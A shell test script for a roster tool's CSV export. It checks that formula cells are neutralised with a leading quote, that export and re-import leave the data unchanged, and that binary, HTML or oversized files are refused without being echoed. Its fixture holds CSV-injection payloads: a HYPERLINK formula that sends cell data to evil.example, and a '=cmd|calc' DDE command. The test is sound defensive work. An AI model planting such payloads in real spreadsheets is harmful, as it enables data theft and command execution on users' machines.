#!/bin/sh
# csv_export.sh: "roster list --format csv" neutralises cells a spreadsheet
# would run as formulas (OWASP CSV injection: = + - @ TAB CR first), the
# file still reads back with Python's csv module and imports unchanged, and
# a file that is not a roster (binary, HTML, one huge line) is refused
# without its content echoed.
set -eu
. "$CT_SRC/tests/cli/lib.sh"

# Values a spreadsheet would evaluate. TAB cannot survive an import (cells
# are trimmed), so it is checked on a site written straight to the database.
printf '%s\r\n' 'email,name,organisation,team,site,role' \
    '-x@example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+1,@SUM(1+1),-site,=cmd|calc' \
    'plain@example.org,Ann O'"'"'Brien,Org,'"'"'quoted,Site,@lead' >hostile.csv
expect 0 roster import hostile.csv
sqlite3 "$db" "UPDATE members SET site = char(9) || 'tabbed' WHERE email = 'plain@example.org'"
expect 0 roster list --format csv
cp "$tmp/out" export.csv

"$CT_PYTHON" - export.csv <<'PY' || fail "the export does not read back as neutralised CSV"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
by = {r["email"]: r for r in rows}
x = by["'-x@example.org"]
assert x["name"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", x["name"]
assert x["organisation"] == "'+1", x
assert x["team"] == "'@SUM(1+1)", x
assert x["site"] == "'-site", x
assert x["role"] == "'=cmd|calc", x
p = by["plain@example.org"]
assert p["name"] == "Ann O'Brien", p                   # a quote inside is data
assert p["team"] == "'quoted", p                      # so is one before a letter
assert p["site"] == "'\ttabbed", p
assert p["role"] == "'@lead", p
# No cell of any row begins with a formula character.
for r in rows:
    for k, v in r.items():
        assert v[:1] not in ("=", "+", "-", "@", "\t", "\r"), (k, v)
PY

# The round trip: importing the export changes nothing, and the database
# holds the original values, not the quoted ones.
sqlite3 "$db" "UPDATE members SET site = 'Site' WHERE email = 'plain@example.org'"
expect 0 roster list --format csv
cp "$tmp/out" before.csv
expect 0 roster import before.csv
out_has "0 added, 0 updated, 0 marked left, 2 unchanged"
[ "$(sql "SELECT name FROM members WHERE email = '-x@example.org'")" = \
    '=HYPERLINK("http://evil.example/?x="&A1,"click")' ] || fail "the round trip changed the name"
[ "$(sql "SELECT team FROM members WHERE email = 'plain@example.org'")" = "'quoted" ] ||
    fail "the data's own quote was stripped"
expect 0 roster list --format csv
cmp -s "$tmp/out" before.csv || fail "export, import, export differs"

# Not a roster: refused (65) and nothing of the file is echoed.
# Fixed bytes (a seeded stream, no NUL): random ones made this test flaky.
"$CT_PYTHON" -c 'import random, sys; r = random.Random(1); sys.stdout.buffer.write(bytes(r.randrange(1, 256) for _ in range(4096)))' >binary.csv
printf 'SECRETBYTES' >>binary.csv
printf '<!DOCTYPE html><html><head><title>SECRET-TITLE</title></head>\n<body>x</body></html>\n' >page.csv
"$CT_PYTHON" -c 'print("SECRETLINE" * 100000)' >huge.csv
for f in binary.csv page.csv huge.csv; do
    expect 65 roster import "$f"
    err_has "$f:1: not a roster"
    if grep -q SECRET "$tmp/err"; then fail "$f: its content is echoed"; fi
    [ "$(wc -c <"$tmp/err")" -lt 400 ] || fail "$f: a long error"
done
echo ok
